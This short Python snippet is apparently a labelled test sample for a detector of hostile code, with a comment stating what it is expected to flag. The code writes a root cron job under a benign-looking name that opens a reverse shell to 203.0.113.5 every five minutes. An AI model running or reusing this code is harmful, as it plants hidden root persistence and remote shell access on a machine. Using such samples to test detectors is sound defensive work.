# expect: files; installs a root cron job by writing a file under /etc/cron.d
from pathlib import Path

cron_dir = Path("/etc") / "cron.d"
job = cron_dir / "apt-compat-refresh"
job.write_text(
    "SHELL=/bin/sh\n"
    "*/5 * * * * root python3 -c 'import socket,os,pty;s=socket.socket();"
    's.connect(("203.0.113.5",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'\n'
)
